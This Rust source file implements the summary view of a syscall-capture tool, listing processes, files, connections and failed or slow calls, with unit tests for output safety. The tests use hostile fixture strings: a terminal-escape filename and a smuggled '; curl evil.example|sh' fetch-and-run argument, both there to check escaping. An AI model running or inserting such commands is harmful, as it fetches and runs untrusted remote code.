//! What happened in a capture, on one screen.
//!
//! An [`Account`] is a sink that keeps what is of first interest: started programs and how they
//! ended, changed files, connections, failed and slow calls. Its memory is bounded whatever the
//! capture contains; beyond the limits it only counts.

mod calls;
mod files;
mod print;

use std::io;
use std::ops::ControlFlow;

use scap_capture_format::schema::{Arch, signal};

use crate::event::net::{SockAddr, SockTuple};
use crate::event::value::{self, Value};
use crate::event::{Event, EventExt as _, EventFlags, Names as _, number, text, time};
use crate::fields::Context;
use crate::replay::EventSink;
use crate::state::View;
use crate::stats::groups::{Counts, Groups};

use calls::{Failed, Slow, Waits};
use files::Files;

/// Lines kept of each list.
const ROWS: usize = 8;
/// Distinct values of one kind that are counted separately.
const KINDS: usize = 4096;
/// Longest text put into a line, in bytes before escaping.
const TEXT: usize = 256;

/// What happened, collected event by event.
#[derive(Debug)]
pub(super) struct Account {
    arch: Option<Arch>,
    /// Time of the first event.
    first: Option<u64>,
    /// Events by process.
    busy: Groups<i64, (u64, Vec<u8>)>,
    started: Rows,
    ended: Rows,
    files: Files,
    /// Network connections, then local ones.
    connections: Counts<Vec<u8>>,
    local: Counts<Vec<u8>>,
    failed: Failed,
    slow: Slow,
    waits: Waits,
}

/// The first lines of a list, and their total number.
#[derive(Debug, Default)]
struct Rows {
    rows: Vec<Vec<u8>>,
    count: u64,
}

impl Rows {
    fn add(&mut self, row: impl FnOnce() -> Vec<u8>) {
        self.count += 1;
        if self.rows.len() < ROWS {
            self.rows.push(row());
        }
    }
}

impl Account {
    /// Makes an account for a capture of this architecture.
    pub(super) fn new(arch: Option<Arch>) -> Self {
        Self {
            arch,
            first: None,
            busy: Groups::new(KINDS),
            started: Rows::default(),
            ended: Rows::default(),
            files: Files::new(),
            connections: Counts::new(KINDS),
            local: Counts::new(KINDS),
            failed: Failed::new(),
            slow: Slow::new(),
            waits: Waits::new(),
        }
    }

    /// Starts a line with the time since the first event.
    fn at(&self, event: &Event<'_>) -> Vec<u8> {
        let since = event
            .ts
            .known()
            .unwrap_or(0)
            .saturating_sub(self.first.unwrap_or(0));
        let mut row = Vec::new();
        let (seconds, ms) = (since / time::NS_PER_S, since % time::NS_PER_S / 1_000_000);
        number::display(&mut row, format_args!("{seconds:>3}.{ms:03}  "));
        row
    }

    /// Counts an event for its process. A process is listed under the name of its last `execve`.
    fn count(&mut self, event: &Event<'_>, view: &View<'_>) {
        let pid = event.pid.0;
        if pid < 0 {
            return;
        }
        let make = || (pid, Default::default());
        let Some(place) = self.busy.place(&pid, |other| *other == pid, make) else {
            return;
        };
        let (count, name) = self.busy.row(place);
        *count += 1;
        let became = event.info().is_some_and(|i| i.name.starts_with("execve"));
        if (name.is_empty() || became)
            && let Some(comm) = view.own_comm()
        {
            name.clear();
            safe(name, comm);
        }
    }

    fn started(&mut self, event: &Event<'_>, view: &View<'_>) {
        if event.result() != Some(0) {
            return;
        }
        let row = self.at(event);
        self.started.add(|| {
            let mut row = row;
            command_line(&mut row, event);
            row.extend_from_slice(b"  (");
            number::dec(&mut row, event.pid.0);
            let (starter, adopter) = view.starter();
            let parent = || {
                let tid = event.int(param(event, "ptid")?)?;
                view.comm(tid)
            };
            if let Some(name) = starter.and_then(|starter| starter.comm).or_else(parent) {
                row.extend_from_slice(b", by ");
                safe(&mut row, name);
            }
            if let Some(name) = adopter.and_then(|adopter| adopter.comm.as_deref()) {
                row.extend_from_slice(b", adopted by ");
                safe(&mut row, name);
            }
            row.push(b')');
            row
        });
    }

    /// Adds a process that was killed or ended with an error status.
    fn ended(&mut self, event: &Event<'_>, view: &View<'_>) {
        let number = |name| param(event, name).and_then(|i| event.uint(i)).unwrap_or(0);
        let (signal, status) = (number("sig"), number("ret"));
        if event.tid.0 != event.pid.0 || (signal == 0 && status == 0) {
            return;
        }
        let row = self.at(event);
        self.ended.add(|| {
            let mut row = row;
            who(&mut row, event, view);
            match u8::try_from(signal).ok().filter(|s| *s > 0) {
                Some(number) => match signal::name(number) {
                    Some(name) => number::display(&mut row, format_args!(" killed by {name}")),
                    None => number::display(&mut row, format_args!(" killed by signal {number}")),
                },
                None => number::display(&mut row, format_args!(" ended with status {status}")),
            }
            row
        });
    }

    fn connected(&mut self, event: &Event<'_>, view: &View<'_>, verb: &str) {
        let value = |name| {
            let (index, info) = event.info()?.param(name)?;
            let bytes = event.params.get(index)?;
            Some(Value::decode(info, bytes).0)
        };
        let mut row = Vec::new();
        who(&mut row, event, view);
        number::display(&mut row, format_args!(" {verb} "));
        let (address, tuple) = (value("addr"), value("tuple"));
        let over_network = matches!(address, Some(Value::SockAddr(SockAddr::Inet(_))))
            || matches!(tuple, Some(Value::SockTuple(SockTuple::Inet(..))));
        match (address, tuple) {
            (Some(Value::SockAddr(address)), _) if verb == CONNECTS => {
                address.render(&mut row, text::escape_exact);
            }
            (_, Some(Value::SockTuple(tuple))) => tuple.write(&mut row, text::escape_exact),
            _ => row.extend_from_slice(b"an unknown address"),
        }
        // A non-blocking connect returns EINPROGRESS and usually succeeds later.
        let error = event.result().filter(|r| *r < 0).and_then(calls::errno);
        if let Some(name) = error.filter(|name| *name != "EINPROGRESS") {
            number::display(&mut row, format_args!(": {name}"));
        }
        if over_network {
            self.connections.add(row);
        } else {
            self.local.add(row);
        }
    }
}

/// The verb of a `connect`, whose address is the other end's.
const CONNECTS: &str = "to";
/// The verb of an `accept`.
const ACCEPTS: &str = "accepted";

impl EventSink for Account {
    fn event(&mut self, cx: &Context<'_>) -> io::Result<ControlFlow<()>> {
        let (event, view) = (cx.event, cx.view);
        self.first = self.first.or(event.ts.known());
        self.count(event, view);
        self.waits.add(event, view, self.arch);
        if event.flags.contains(EventFlags::IN_FLIGHT) {
            return Ok(ControlFlow::Continue(()));
        }
        let failed = event.result().is_some_and(calls::is_error);
        let name = event.info().map_or("", |info| info.name);
        match name {
            "execve" | "execveat" if event.ty.is_exit() => self.started(event, view),
            "procexit" => self.ended(event, view),
            "connect" if event.ty.is_exit() => self.connected(event, view, CONNECTS),
            "accept" | "accept4" if event.ty.is_exit() && !failed => {
                self.connected(event, view, ACCEPTS);
            }
            _ => {}
        }
        if failed {
            self.failed.add(event, view, self.arch);
        } else {
            self.files.add(event, view);
        }
        self.slow.add(event, view, self.arch);
        Ok(ControlFlow::Continue(()))
    }
}

/// Returns the index of a parameter.
fn param(event: &Event<'_>, name: &str) -> Option<usize> {
    event.info()?.param(name).map(|(index, _)| index)
}

/// Appends text from the capture, shortened and escaped.
fn safe(out: &mut Vec<u8>, value: &[u8]) {
    let (shown, more) = match value.get(..TEXT) {
        Some(start) => (start, "..."),
        None => (value, ""),
    };
    text::escape_exact(out, shown);
    out.extend_from_slice(more.as_bytes());
}

/// Appends name and id of an event's process.
fn who(out: &mut Vec<u8>, event: &Event<'_>, view: &View<'_>) {
    safe(out, view.own_comm().unwrap_or(b"?"));
    number::display(out, format_args!(" ({})", event.pid.0));
}

/// Appends the command line of an `execve`: `argv`, separated by blanks.
fn command_line(out: &mut Vec<u8>, event: &Event<'_>) {
    let get = |name| param(event, name).and_then(|i| event.params.get(i));
    let mut line = get("exe").map(value::text).unwrap_or_default().to_vec();
    let args = get("args").unwrap_or_default();
    for arg in args.strip_suffix(b"\0").unwrap_or(args).split(|b| *b == 0) {
        if line.len() > TEXT {
            break;
        }
        line.push(b' ');
        line.extend_from_slice(arg);
    }
    safe(out, line.trim_ascii_end());
}

#[cfg(test)]
mod tests {
    use scap_capture_format::event::{EventNum, Params, Pid, Tid, Timestamp};
    use scap_capture_format::schema::{EventType, types};

    use super::*;
    use crate::fields::Session;
    use crate::state::State;
    use crate::stats::CaptureInfo;

    fn take(account: &mut Account, pid: i64, ty: EventType, params: &[&[u8]]) {
        let lens: Vec<u32> = params.iter().map(|p| p.len() as u32).collect();
        let bytes = params.concat();
        let event = Event {
            num: EventNum(1),
            ts: Timestamp(5),
            tid: Tid(pid),
            pid: Pid(pid),
            cpu: 0,
            ty,
            latency: Some(u64::MAX),
            flags: EventFlags::empty(),
            params: Params::new(&lens, &bytes).unwrap(),
        };
        let mut state = State::new();
        state.apply(&event);
        let cx = Context {
            event: &event,
            view: &state.view(&event),
            session: &Session::default(),
        };
        assert!(account.event(&cx).unwrap().is_continue());
    }

    fn printed(account: &Account) -> String {
        let mut out = Vec::new();
        account.print(&mut out, &CaptureInfo::default());
        String::from_utf8(out).unwrap()
    }

    const EVIL: &[u8] = b"/tmp/\x1b]0;evil\x07\n\xff\0";

    #[test]
    fn what_the_recorded_chose_cannot_control_the_terminal() {
        let mut account = Account::new(None);
        let (ok, failed) = (0_i64.to_le_bytes(), (-2_i64).to_le_bytes());
        take(&mut account, 1, types::SYSCALL_OPEN_X, &[&failed, EVIL]);
        take(&mut account, 1, types::SYSCALL_UNLINK_2_X, &[&ok, EVIL]);
        let lookalike = b"/tmp/\\x07\0";
        take(
            &mut account,
            1,
            types::SYSCALL_UNLINK_2_X,
            &[&ok, lookalike],
        );
        take(
            &mut account,
            1,
            types::SYSCALL_EXECVE_19_X,
            &[&ok, EVIL, b"a\0\x1b[2J\0"],
        );
        let text = printed(&account);
        assert!(text.contains("\\x1b]0;evil\\x07\\n\\xff"), "{text}");
        assert!(text.contains("\\x1b[2J"), "{text}");
        assert!(text.contains("/tmp/\\\\x07"), "{text}");
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text}");
        // A newline in a name does not start a new line.
        assert!(
            text.lines()
                .all(|l| !l.starts_with('\u{fffd}') && !l.starts_with("\\xff")),
            "{text}"
        );
    }

    #[test]
    fn long_waits_are_listed_with_what_they_waited_for() {
        let mut account = Account::new(None);
        let (timeout, lock) = ((-110_i64).to_le_bytes(), 0x5000_u64.to_le_bytes());
        let futex: &[&[u8]] = &[&timeout, &lock, &[0; 2], &[0; 8]];
        take(&mut account, 7, types::SYSCALL_FUTEX_X, futex);
        take(&mut account, 7, types::SYSCALL_FUTEX_X, futex);
        // Sleeping is what a sleeping program wants.
        take(&mut account, 7, types::SYSCALL_NANOSLEEP_X, &[&[0; 8]]);
        let text = printed(&account);
        assert!(
            text.contains("longest waits for data and locks\n"),
            "{text}"
        );
        let row = "? (7) futex 2 times, 2 timed out: futex 0x5000\n";
        assert!(text.contains(row), "{text}");
        assert!(!text.contains("nanosleep"), "{text}");
    }

    #[test]
    fn a_long_command_line_is_wrapped_and_its_cut_is_marked() {
        let mut account = Account::new(None);
        let ok = 0_i64.to_le_bytes();
        let args = [&[b'x'; 200][..], b"\0; curl evil.example|sh\0"].concat();
        take(
            &mut account,
            7,
            types::SYSCALL_EXECVE_19_X,
            &[&ok, b"/bin/sh\0", &args],
        );
        let args = [b'y'; 5000];
        take(
            &mut account,
            7,
            types::SYSCALL_EXECVE_19_X,
            &[&ok, b"/bin/sh\0", &args],
        );
        let text = printed(&account);
        let joined: String = text
            .lines()
            .map(|line| line.get(11..).unwrap_or(""))
            .collect();
        assert!(joined.contains("x ; curl evil.example|sh  (7)"), "{text}");
        assert!(joined.contains("yyy...  (7)"), "{text}");
        assert!(
            text.lines().all(|line| line.chars().count() <= 100),
            "{text}"
        );
    }

    #[test]
    fn what_is_kept_is_bounded() {
        let mut account = Account::new(None);
        for pid in 0..2 * KINDS as i64 {
            let name = format!("/tmp/{pid}\0");
            let ok = 0_i64.to_le_bytes();
            let params: &[&[u8]] = &[&ok, name.as_bytes()];
            take(&mut account, pid, types::SYSCALL_UNLINK_2_X, params);
        }
        assert_eq!(
            (account.busy.len(), account.files.changed().len()),
            (KINDS, KINDS)
        );
        assert!(printed(&account).contains(&format!(
            "and {} more",
            number::grouped(2 * KINDS as u64 - ROWS as u64)
        )));
    }
}
